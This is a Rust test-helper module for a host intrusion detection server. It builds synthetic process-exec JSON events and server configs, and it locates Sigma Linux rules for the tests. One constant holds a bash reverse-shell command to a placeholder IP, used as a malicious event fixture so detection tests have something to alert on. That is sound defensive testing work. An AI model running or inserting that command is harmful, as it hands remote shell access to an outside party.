//! What the server's suites share: exec events as our agent writes them, and configs.
#![allow(dead_code, clippy::unwrap_used, clippy::expect_used)]

use std::path::PathBuf;

use serde_json::{json, Value};

/// An exec event as the process plugin writes it (docs/events.md), for `host`, at
/// `timestamp` (RFC 3339), with `labels`.
pub fn exec_event(
    host: &str,
    labels: &[(&str, &str)],
    timestamp: &str,
    sequence: u64,
    command_line: &str,
    executable: &str,
    parent_executable: &str,
) -> Vec<u8> {
    let labels: serde_json::Map<String, Value> = labels
        .iter()
        .map(|(k, v)| (k.to_string(), json!(v)))
        .collect();
    let args: Vec<&str> = command_line.split(' ').collect();
    json!({
        "@timestamp": timestamp,
        "event": {"kind": "event", "category": ["process"], "type": ["start"], "action": "exec",
                  "sequence": sequence, "module": "hids", "dataset": "hids.process"},
        "host": {"id": host, "hostname": format!("{host}.example")},
        "labels": labels,
        "process": {"pid": 1000 + sequence, "entity_id": format!("{}-1", 1000 + sequence),
                    "name": executable.rsplit('/').next(), "executable": executable,
                    "args": args, "args_count": args.len(), "command_line": command_line,
                    "working_directory": "/root",
                    "parent": {"pid": 999, "executable": parent_executable,
                               "name": parent_executable.rsplit('/').next(),
                               "command_line": parent_executable}},
        "user": {"id": "0", "name": "root"},
        "group": {"id": "0", "name": "root"},
        "hids": {"plugin": "process", "run_id": format!("run-{host}"), "capture": "ebpf"}
    })
    .to_string()
    .into_bytes()
}

pub const REVERSE_SHELL: &str = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1";

/// A reverse shell on `host` at `timestamp`.
pub fn reverse_shell(host: &str, labels: &[(&str, &str)], timestamp: &str, seq: u64) -> Vec<u8> {
    exec_event(
        host,
        labels,
        timestamp,
        seq,
        REVERSE_SHELL,
        "/usr/bin/bash",
        "/usr/sbin/sshd",
    )
}

/// An ordinary command on `host`.
pub fn benign(host: &str, timestamp: &str, seq: u64) -> Vec<u8> {
    exec_event(
        host,
        &[],
        timestamp,
        seq,
        "ls -l /etc/hostname",
        "/usr/bin/ls",
        "/usr/bin/bash",
    )
}

/// The server's config for `brokers`/`topic`/`group`, SQLite at `db`; `extra` appended.
pub fn sqlite_config(
    brokers: &str,
    topic: &str,
    group: &str,
    db: &std::path::Path,
    extra: &str,
) -> String {
    format!(
        "[kafka]\nbrokers = [\"{brokers}\"]\ntopics = [\"{topic}\"]\ngroup = \"{group}\"\nbatch_wait_ms = 50\n\n\
         [store]\npath = {db:?}\n\n{extra}\n"
    )
}

/// A server on `topic` in group `g1`, SQLite in a new directory (returned, so it lives
/// as long as the server).
pub fn sqlite_server(
    broker: &hids_test_support::Broker,
    topic: &str,
    extra: &str,
) -> (tempfile::TempDir, hids_test_support::Server) {
    let dir = tempfile::tempdir().unwrap();
    let config = sqlite_config(&broker.addr(), topic, "g1", &dir.path().join("a.db"), extra);
    (dir, hids_test_support::Server::start(&config))
}

/// The SigmaHQ Linux rules beside the checkout (`../shared/data/sigma`).
pub fn sigma_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/sigma/rules/linux")
}

pub fn alerts_of<'a>(alerts: &'a [Value], host: &str) -> Vec<&'a Value> {
    alerts.iter().filter(|a| a["host_id"] == host).collect()
}
